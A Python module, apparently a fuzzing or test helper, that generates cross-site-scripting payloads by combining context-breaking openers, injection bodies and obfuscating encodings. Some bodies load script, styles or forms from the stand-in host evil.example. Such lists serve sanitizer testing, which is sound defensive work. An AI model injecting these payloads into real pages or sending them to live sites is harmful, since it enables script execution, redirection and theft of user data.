"""Words that would be a script, a style or an address if anybody took them for markup."""

import html
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

_OPENERS = ["", '"', "'", ">", '">', "'>", "</textarea>", "</script>", "</title>", "-->", "]]>", "{{", "{%"]  # fmt: skip
_BODIES = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>here</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>send</button></form>",
    "<body onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<template><script>alert(1)</script></template>",
    " onmouseover=alert(1) x=",
    " style=background:url(//evil.example/x) ",
    " hx-get=//evil.example hx-trigger=load ",
    " hx-on:load=alert(1) ",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]
_FORMS: list[Callable[[str], str]] = [
    lambda s: s,
    str.upper,
    html.escape,
    quote,
    lambda s: s.replace("<", "<\t").replace("=", "=\n"),
    lambda s: s.replace("<", "\u202e<\u200b"),
]


def payloads() -> Iterator[str]:
    """So many as there are openers, bodies and forms of them together."""
    for opener, body, form in product(_OPENERS, _BODIES, _FORMS):
        yield form(opener + body)
